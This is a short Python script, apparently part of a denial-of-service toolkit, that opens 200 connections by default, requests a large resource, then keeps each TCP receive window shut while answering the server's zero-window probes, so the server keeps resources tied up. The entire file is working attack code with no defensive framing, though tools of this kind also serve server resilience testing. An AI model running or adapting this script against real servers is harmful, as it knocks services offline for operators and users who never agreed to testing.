#!/usr/bin/env python3
"""Asks for something large on many connections and takes nothing: each keeps its window closed and answers the
server's probes (RFC 6429)."""

import socket

from sender import Attack, arguments, request


class ZeroWindow(Attack):
    def begin(self, sock):
        sock.sendall(request(self.options.path))

    def step(self, sock):
        error = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if error:
            raise OSError(error, "ended")
        return True


ZeroWindow(arguments(__doc__, connections=200), receive_buffer=4096).run()
